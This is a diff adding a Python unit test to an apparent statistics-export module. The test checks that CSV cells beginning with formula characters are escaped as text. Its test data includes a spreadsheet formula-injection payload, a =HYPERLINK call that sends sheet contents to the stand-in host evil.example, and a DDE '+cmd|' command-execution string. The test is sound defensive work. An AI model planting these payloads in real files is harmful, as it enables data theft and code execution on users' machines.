@@ -6,7 +6,7 @@ import csv
 import io
 import json
 
-from credverify.flowstats.export import COLUMNS, to_csv, to_json
+from credverify.flowstats.export import COLUMNS, FORMULA_TRIGGERS, spreadsheet_safe, to_csv, to_json
 from credverify.v1 import moves_pb2
 
 
@@ -36,3 +36,21 @@ def test_json_gives_numbers_and_null_for_suppressed_values() -> None:
                                                                                                    origin_country="RO")]))
     values = {item["ORIGIN"]: (item["Value"], item["Flag Codes"]) for item in items}
     assert values == {"KE": (12, ""), "TT": (None, "c"), "RO": (12, "e")}
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
+    # Codes and parameters come from the statistics topic; whoever could write there must not get a
+    # formula (=HYPERLINK to send the sheet away, =cmd|... to run a program) into a statistician's sheet.
+    hostile = stat(origin_country='=HYPERLINK("http://evil.example/?"&A1)', method="+cmd|' /C calc'!A0",
+                   period="-2+3", parameters={"@k": "\tx"}, value=3, noisy=True)
+    text = to_csv([hostile])
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["ORIGIN"] == "'=HYPERLINK(\"http://evil.example/?\"&A1)"
+    assert row["Origin"].startswith("'=")
+    assert row["Method"] == "'+cmd|' /C calc'!A0" and row["PERIOD"] == "'-2+3"
+    assert row["Parameters"] == "'@k=\tx"
+    assert row["Value"] == "3"
+    assert spreadsheet_safe("-3") == "-3" and spreadsheet_safe("-0.5") == "-0.5", "a number is not a formula"
+    for line in text.splitlines()[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(FORMULA_TRIGGERS), cell
